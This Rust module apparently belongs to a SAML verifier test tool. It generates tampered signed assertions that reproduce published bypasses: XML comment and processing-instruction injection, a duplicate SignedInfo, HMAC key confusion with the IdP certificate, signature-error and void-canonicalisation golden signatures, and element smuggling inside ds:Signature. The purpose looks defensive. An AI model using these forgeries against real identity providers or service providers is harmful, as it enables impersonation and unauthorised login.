//! The signed-assertion stage: byte-level edits of the first assertion after it is signed and
//! before it is wrapped or encrypted.
//!
//! Some of these keep the signature valid (a comment inside signed text is removed by exclusive
//! canonicalisation, so the digest still matches); the others break it in the precise shape of
//! a published vulnerability. Either way the edit is textual: the model cannot express a
//! comment node or a second `ds:SignedInfo`.

use super::stages::StageContext;
use super::{
    FaultError, HmacAlg, HmacKeyEncoding, PiSplit, PiTarget, SignatureErrorKind, SmugglePlace,
    SmuggledElement, VoidC14nOn,
};
use crate::saml::mint::MintError;
use crate::saml::ns;
use crate::saml::response::{signature_template, write_assertion};
use crate::saml::xml::{escape_attr, escape_text};
use crate::saml::xmlsec::XmlSecError;

/// The empty comment the comment faults insert.
const COMMENT: &str = "<!---->";

/// `comment-in-name-id`: `<!---->` after `after` characters of the NameID text.
pub(crate) fn comment_in_name_id(assertion: &mut String, after: usize) {
    *assertion = insert_in_text_of(assertion, "<saml:NameID", "</saml:NameID>", after, COMMENT);
}

/// `comment-in-attribute`: `<!---->` after `after` characters of the named Attribute's first
/// value (no-op when the assertion has no such Attribute).
pub(crate) fn comment_in_attribute(assertion: &mut String, name: &str, after: usize) {
    let open = format!(r#"<saml:Attribute Name="{}""#, escape_attr(name));
    if let Some(pos) = assertion.find(&open) {
        let (head, tail) = assertion.split_at(pos);
        let tail = insert_in_text_of(
            tail,
            "<saml:AttributeValue",
            "</saml:AttributeValue>",
            after,
            COMMENT,
        );
        *assertion = format!("{head}{tail}");
    }
}

/// `tamper-after-signing`: the NameID becomes the victim's, so the digest no longer matches.
pub(crate) fn tamper_after_signing(
    assertion: &mut String,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let v = cx.victim(victim)?;
    *assertion = replace_name_id(assertion, &v.name_id());
    Ok(())
}

/// `digest-value-comment` (CVE-2025-29775 shape): the NameID is tampered, and the digest of the
/// tampered assertion sits in a comment before the genuine one,
/// `<ds:DigestValue><!--forged-->ORIGINAL</ds:DigestValue>`, for a verifier that takes the
/// comment's text for the element's.
pub(crate) fn digest_value_comment(
    assertion: &mut String,
    cx: &StageContext<'_>,
) -> Result<(), MintError> {
    let (tampered, forged) = tamper_with_matching_signature(assertion, cx)?;
    *assertion = match element_text(&forged, "<ds:DigestValue>", "</ds:DigestValue>") {
        Some(d) => tampered.replacen(
            "<ds:DigestValue>",
            &format!("<ds:DigestValue><!--{d}-->"),
            1,
        ),
        None => tampered,
    };
    Ok(())
}

/// `two-signed-info` (CVE-2025-29774 shape): the NameID is tampered, and a second
/// `ds:SignedInfo`, whose digest matches the tampered assertion, follows the genuine one. A
/// correct verifier refuses a Signature with two.
pub(crate) fn two_signed_info(
    assertion: &mut String,
    cx: &StageContext<'_>,
) -> Result<(), MintError> {
    let (tampered, forged) = tamper_with_matching_signature(assertion, cx)?;
    *assertion = match element(&forged, "<ds:SignedInfo>", "</ds:SignedInfo>") {
        Some(si) => tampered.replacen("</ds:SignedInfo>", &format!("</ds:SignedInfo>{si}"), 1),
        None => tampered,
    };
    Ok(())
}

/// The signed assertion with its NameID changed to another identity's, and the model's first
/// assertion with the same change signed by the attacker key: the digest (and a SignedInfo)
/// that match the tampered content.
pub(super) fn tamper_with_matching_signature(
    assertion: &str,
    cx: &StageContext<'_>,
) -> Result<(String, String), MintError> {
    let v = cx.victim(&None)?;
    let mut model = cx.model.assertions[0].clone();
    if let Some(n) = model.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
        n.value = v.name_id();
    }
    let forged = cx.sign_assertion(&model, &cx.input.keys.attacker)?;
    Ok((replace_name_id(assertion, &v.name_id()), forged))
}

/// The first `open..close` element of `xml`, tags included.
pub(super) fn element<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
    let s = xml.find(open)?;
    let e = xml[s..].find(close)? + s + close.len();
    Some(&xml[s..e])
}

/// The text of the first `open..close` element of `xml`.
fn element_text<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
    let s = xml.find(open)? + open.len();
    let e = xml[s..].find(close)? + s;
    Some(&xml[s..e])
}

/// Insert `ins` after `after` characters of the text of the first element that starts with
/// `open_tag_prefix` (at the end when the text is shorter).
fn insert_in_text_of(
    xml: &str,
    open_tag_prefix: &str,
    close_tag: &str,
    after: usize,
    ins: &str,
) -> String {
    let Some(open) = xml.find(open_tag_prefix) else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let text_start = open + gt + 1;
    let Some(close) = xml[text_start..].find(close_tag) else {
        return xml.to_string();
    };
    let text = &xml[text_start..text_start + close];
    let split = text
        .char_indices()
        .nth(after)
        .map(|(i, _)| i)
        .unwrap_or(text.len());
    format!(
        "{}{}{}{}",
        &xml[..text_start + split],
        ins,
        &text[split..],
        &xml[text_start + close..]
    )
}

/// The first NameID's text replaced by `new_value`.
fn replace_name_id(xml: &str, new_value: &str) -> String {
    let Some(open) = xml.find("<saml:NameID") else {
        return xml.to_string();
    };
    let Some(gt) = xml[open..].find('>') else {
        return xml.to_string();
    };
    let ts = open + gt + 1;
    let Some(close) = xml[ts..].find("</saml:NameID>") else {
        return xml.to_string();
    };
    format!(
        "{}{}{}",
        &xml[..ts],
        escape_text(new_value),
        &xml[ts + close..]
    )
}

// ---- issue 13: published SAML bypass advisories (docs/advisories.md S5, S6) ----

/// The first assertion of the model with its NameID changed to the default victim's.
fn tampered_model(
    cx: &StageContext<'_>,
) -> Result<crate::saml::assertion::AssertionModel, MintError> {
    let v = cx.victim(&None)?;
    let mut model = cx.model.assertions[0].clone();
    if let Some(n) = model.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
        n.value = v.name_id();
    }
    Ok(model)
}

/// `hmac-key-confusion` (xml-crypto GHSA-c27r-x354-4m68): the NameID is tampered and the
/// assertion "signed" with an HMAC SignatureMethod whose key is the IdP's *public* signing
/// certificate in the byte form `encoding`: everything needed is in the IdP metadata. The
/// digests are genuine SHA-256 digests of the tampered assertion; KeyInfo carries the IdP
/// certificate unless `without_key_info`.
pub(crate) fn hmac_key_confusion(
    assertion: &mut String,
    cx: &StageContext<'_>,
    alg: HmacAlg,
    encoding: HmacKeyEncoding,
    without_key_info: bool,
) -> Result<(), MintError> {
    let model = tampered_model(cx)?;
    let idp = &cx.input.keys.idp;
    let uri = match alg {
        HmacAlg::HmacSha1 => "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        HmacAlg::HmacSha256 => "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    };
    let id = model.id.clone().unwrap_or_default();
    let cert = (!without_key_info).then_some(idp.cert_b64.as_str());
    let tpl = signature_template(&id, cert, false).replacen(ns::ALG_RSA_SHA256, uri, 1);
    let key = hmac_key(&idp.cert_b64, encoding)?;
    *assertion = cx
        .signer
        .sign_enveloped_hmac(write_assertion(&model, Some(&tpl)), &key)?;
    Ok(())
}

/// The IdP certificate (base64 DER, as in the metadata) in the byte form `encoding`.
fn hmac_key(cert_b64: &str, encoding: HmacKeyEncoding) -> Result<Vec<u8>, MintError> {
    use base64::Engine;
    let der = base64::engine::general_purpose::STANDARD
        .decode(cert_b64)
        .map_err(|e| XmlSecError::Library(format!("IdP certificate is not base64: {e}")))?;
    let pem_lf = |tag: &str, der: Vec<u8>| {
        pem::encode_config(
            &pem::Pem::new(tag, der),
            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
        )
        .into_bytes()
    };
    Ok(match encoding {
        HmacKeyEncoding::CertPem => pem_lf("CERTIFICATE", der),
        HmacKeyEncoding::CertBase64 => cert_b64.as_bytes().to_vec(),
        HmacKeyEncoding::CertDer => der,
        HmacKeyEncoding::SpkiPem => {
            let (_, cert) = x509_parser::parse_x509_certificate(&der)
                .map_err(|e| XmlSecError::Library(format!("IdP certificate: {e}")))?;
            pem_lf("PUBLIC KEY", cert.public_key().raw.to_vec())
        }
    })
}

/// `signature-error` (SimpleSAMLphp CVE-2016-9814, php-saml GHSA-9wrw-p9rm-r782): the NameID
/// is tampered, the digest matches the tampered assertion, KeyInfo names the IdP certificate,
/// and the signature is broken so that verifying it is an *error* (no value, not base64, an
/// algorithm that does not fit the IdP's RSA key, an unknown algorithm) rather than a
/// mismatch. A verifier that reads "not 0" as success (`if (openssl_verify(...))`, where -1
/// means error) accepts it.
pub(crate) fn signature_error(
    assertion: &mut String,
    cx: &StageContext<'_>,
    kind: SignatureErrorKind,
) -> Result<(), MintError> {
    let model = tampered_model(cx)?;
    let id = model.id.clone().unwrap_or_default();
    let tpl = signature_template(&id, Some(&cx.input.keys.idp.cert_b64), false);
    // Signed by the attacker key: the digest is right, the value is not the IdP's anyway.
    let signed = cx.signer.sign_enveloped(
        write_assertion(&model, Some(&tpl)),
        &cx.input.keys.attacker.signer,
        false,
    )?;
    let value = element_text(&signed, "<ds:SignatureValue>", "</ds:SignatureValue>")
        .unwrap_or_default()
        .to_string();
    let with_value = |v: &str| {
        signed.replacen(
            &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
            &format!("<ds:SignatureValue>{v}</ds:SignatureValue>"),
            1,
        )
    };
    let with_method = |m: &str| signed.replacen(ns::ALG_RSA_SHA256, m, 1);
    *assertion = match kind {
        SignatureErrorKind::ShortValue => with_value("AA=="),
        SignatureErrorKind::EmptyValue => with_value(""),
        SignatureErrorKind::BadBase64 => with_value("!!!"),
        SignatureErrorKind::EcdsaMethodRsaKey => {
            with_method("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256")
        }
        SignatureErrorKind::DsaMethod => with_method("http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
        SignatureErrorKind::UnknownMethod => with_method("urn:mock:unknown-signature-method"),
        SignatureErrorKind::NoResolvableReference => {
            let sig = element(&signed, "<ds:Signature", "</ds:Signature>")
                .unwrap_or_default()
                .replacen(
                    &format!(r##"URI="#{id}""##),
                    &format!(r##"URI="#{id}-nowhere""##),
                    1,
                );
            write_assertion(&model, Some(&format!("{sig}{sig}")))
        }
    };
    Ok(())
}

// ---- issue 13: docs/advisories.md S7 ----

/// The relative namespace declaration `void-c14n` adds: the prefix is never used, and the URI
/// `1` (no scheme) is the one the simplesamlphp/saml2 CVE-2025-66475 regression fixture puts on
/// its Response. Canonical XML 1.0 §2.3 makes such a document a canonicalisation failure.
pub(crate) const RELATIVE_NAMESPACE: &str = r#" xmlns:void="1""#;

/// base64(SHA-256("")): the digest of a canonical form that came out empty.
pub(crate) const EMPTY_SHA256_B64: &str = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";

/// `void-c14n` (CVE-2025-66568, CVE-2025-66475), the assertion's part: the NameID is tampered,
/// KeyInfo names the IdP certificate, `SignatureValue` is the IdP key's RSA-SHA256 signature
/// over the empty octet string (the one "golden" signature such a verifier accepts for any
/// SignedInfo whose canonicalisation fails), and `DigestValue` is SHA-256("") unless the
/// relative namespace sits on the Signature only, where the assertion itself still
/// canonicalises and the real digest of the tampered assertion stays. `on = response` declares
/// the namespace in the document stage ([`super::document::relative_namespace_on_response`]).
pub(crate) fn void_c14n(
    assertion: &mut String,
    cx: &StageContext<'_>,
    on: VoidC14nOn,
) -> Result<(), MintError> {
    use base64::Engine;
    let model = tampered_model(cx)?;
    let id = model.id.clone().unwrap_or_default();
    let tpl = signature_template(&id, Some(&cx.input.keys.idp.cert_b64), false);
    // Signed by the attacker key only to get the real digest of the tampered assertion; the
    // value is replaced below.
    let signed = cx.signer.sign_enveloped(
        write_assertion(&model, Some(&tpl)),
        &cx.input.keys.attacker.signer,
        false,
    )?;
    let golden = base64::engine::general_purpose::STANDARD.encode(
        cx.input
            .keys
            .idp
            .signer
            .sign_sha256(b"")
            .map_err(XmlSecError::from)?,
    );
    let value = element_text(&signed, "<ds:SignatureValue>", "</ds:SignatureValue>")
        .unwrap_or_default()
        .to_string();
    let mut out = signed.replacen(
        &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
        &format!("<ds:SignatureValue>{golden}</ds:SignatureValue>"),
        1,
    );
    let void_digest = |xml: &str| {
        let digest = element_text(xml, "<ds:DigestValue>", "</ds:DigestValue>").unwrap_or_default();
        xml.replacen(
            &format!("<ds:DigestValue>{digest}</ds:DigestValue>"),
            &format!("<ds:DigestValue>{EMPTY_SHA256_B64}</ds:DigestValue>"),
            1,
        )
    };
    out = match on {
        VoidC14nOn::Response => void_digest(&out),
        VoidC14nOn::Assertion => declare_after(&void_digest(&out), "<saml:Assertion"),
        VoidC14nOn::Signature => declare_after(&out, "<ds:Signature"),
    };
    *assertion = out;
    Ok(())
}

/// `xml` with [`RELATIVE_NAMESPACE`] declared right after the first `tag` (an element name
/// with its `<`), unchanged when there is none.
pub(crate) fn declare_after(xml: &str, tag: &str) -> String {
    match xml.find(tag) {
        Some(pos) => {
            let at = pos + tag.len();
            format!("{}{RELATIVE_NAMESPACE}{}", &xml[..at], &xml[at..])
        }
        None => xml.to_string(),
    }
}

/// `smuggle-in-signature` (passport-wsfed-saml2 CVE-2025-46573): the victim's element (`what`) goes
/// inside the signed assertion's own `ds:Signature`, at `place`. Nothing signed changes: the
/// enveloped-signature transform removes the whole Signature before digesting, and SignedInfo
/// is untouched, so the signature verifies. The smuggled element sits before the genuine
/// Subject and AttributeStatement in document order (an OIOSAML Signature follows the Issuer),
/// so a first-match descendant search finds it first.
pub(crate) fn smuggle_in_signature(
    assertion: &mut String,
    cx: &StageContext<'_>,
    what: SmuggledElement,
    place: SmugglePlace,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let v = cx.victim(victim)?;
    let smuggled = match what {
        SmuggledElement::Subject => {
            // The genuine Subject (SubjectConfirmation and all) with the victim's NameID.
            let genuine = element(assertion, "<saml:Subject>", "</saml:Subject>")
                .unwrap_or("<saml:Subject><saml:NameID></saml:NameID></saml:Subject>");
            replace_name_id(genuine, &v.name_id())
        }
        SmuggledElement::CprAttribute => format!(
            concat!(
                r#"<saml:AttributeStatement><saml:Attribute Name="{name}" NameFormat="{fmt}">"#,
                r#"<saml:AttributeValue>{cpr}</saml:AttributeValue>"#,
                r#"</saml:Attribute></saml:AttributeStatement>"#
            ),
            name = escape_attr(ns::attr::CPR_NUMBER),
            fmt = escape_attr(ns::ATTRNAME_URI),
            cpr = escape_text(v.cpr.as_deref().unwrap_or("0000000000")),
        ),
    };
    *assertion = match place {
        SmugglePlace::Object => assertion.replacen(
            "</ds:Signature>",
            &format!("<ds:Object>{smuggled}</ds:Object></ds:Signature>"),
            1,
        ),
        SmugglePlace::KeyInfo if assertion.contains("</ds:KeyInfo>") => {
            assertion.replacen("</ds:KeyInfo>", &format!("{smuggled}</ds:KeyInfo>"), 1)
        }
        SmugglePlace::KeyInfo => assertion.replacen(
            "</ds:Signature>",
            &format!("<ds:KeyInfo>{smuggled}</ds:KeyInfo></ds:Signature>"),
            1,
        ),
    };
    Ok(())
}

// ---- docs/advisories.md S15: a processing instruction inside signed text ----

/// The PI target `pi-in-signed-text` writes (any name but `xml` would do).
pub(crate) const PI_TARGET: &str = "x";

/// The characters the IdP signed and a PI-skipping reader does not see: what an attacker who
/// can get a value of their choosing signed (their own e-mail address in OneUptime #2988's
/// example, `not-an-admin@…`) adds to the victim's value. No `?>`, no leading or trailing
/// space, so the PI's data is exactly these characters for every parser.
pub(crate) const PI_HIDDEN: &str = "mock-attacker-";

/// `seen` cut where `split` puts the PI: the text before it and the text after it. `Middle`
/// cuts after half of the characters.
pub(crate) fn pi_cut(seen: &str, split: PiSplit) -> (&str, &str) {
    let at = match split {
        PiSplit::Start => 0,
        PiSplit::End => seen.len(),
        PiSplit::Middle => seen
            .char_indices()
            .nth(seen.chars().count() / 2)
            .map_or(seen.len(), |(i, _)| i),
    };
    seen.split_at(at)
}

/// `pi-in-signed-text` (docs/advisories.md S15): the assertion is signed afresh (same key,
/// KeyInfo and algorithms as the genuine one) with the `target` value set to the victim's value
/// with [`PI_HIDDEN`] inserted at `split`, and the signed text is then rewritten with
/// `<?x mock-attacker-?>` in place of the hidden characters. What the signature covers is the
/// flattened text; what a DOM reader returns (PIs are not text) is the victim's value.
pub(crate) fn pi_in_signed_text(
    assertion: &mut String,
    cx: &StageContext<'_>,
    target: PiTarget,
    split: PiSplit,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let v = cx.victim(victim)?;
    let not_applicable = |why: String| MintError::from(FaultError::NotApplicable(why));
    let seen = match target {
        PiTarget::NameId => v.name_id(),
        PiTarget::Cvr => v
            .cvr
            .clone()
            .ok_or_else(|| not_applicable(format!("victim {:?} has no CVR", v.id)))?,
    };
    let (before, after) = pi_cut(&seen, split);
    let signed_value = format!("{before}{PI_HIDDEN}{after}");
    let mut model = cx.model.assertions[0].clone();
    let (open, close) = match target {
        PiTarget::NameId => {
            let n = model
                .subject
                .as_mut()
                .and_then(|s| s.name_id.as_mut())
                .ok_or_else(|| not_applicable("the assertion has no NameID".into()))?;
            n.value = signed_value;
            ("<saml:NameID".to_string(), "</saml:NameID>")
        }
        PiTarget::Cvr => {
            let a = model
                .attribute_statements
                .iter_mut()
                .flatten()
                .find(|a| a.name == ns::attr::PROFESSIONAL_CVR)
                .ok_or_else(|| {
                    not_applicable("the assertion has no professional CVR attribute".into())
                })?;
            a.values = vec![signed_value];
            (
                format!(
                    r#"<saml:Attribute Name="{}""#,
                    escape_attr(ns::attr::PROFESSIONAL_CVR)
                ),
                "</saml:AttributeValue>",
            )
        }
    };
    let signed = cx.sign_assertion(&model, cx.input.keys.choose(cx.crypto.key))?;
    let sent = format!(
        "{}<?{PI_TARGET} {PI_HIDDEN}?>{}",
        escape_text(before),
        escape_text(after)
    );
    *assertion = replace_value_text(&signed, &open, close, &sent)
        .ok_or_else(|| not_applicable(format!("no {open} with a value in the signed assertion")))?;
    Ok(())
}

/// `xml` with the text of the value that follows the first `open` replaced by `new_inner`: for
/// a NameID its own text, for an Attribute (whose `open` is its start tag) the text of its
/// first AttributeValue, up to `close`.
fn replace_value_text(xml: &str, open: &str, close: &str, new_inner: &str) -> Option<String> {
    let start = xml.find(open)?;
    let value_open = if open.starts_with("<saml:Attribute ") {
        start + xml[start..].find("<saml:AttributeValue")?
    } else {
        start
    };
    let text_start = value_open + xml[value_open..].find('>')? + 1;
    let text_end = text_start + xml[text_start..].find(close)?;
    Some(format!(
        "{}{new_inner}{}",
        &xml[..text_start],
        &xml[text_end..]
    ))
}
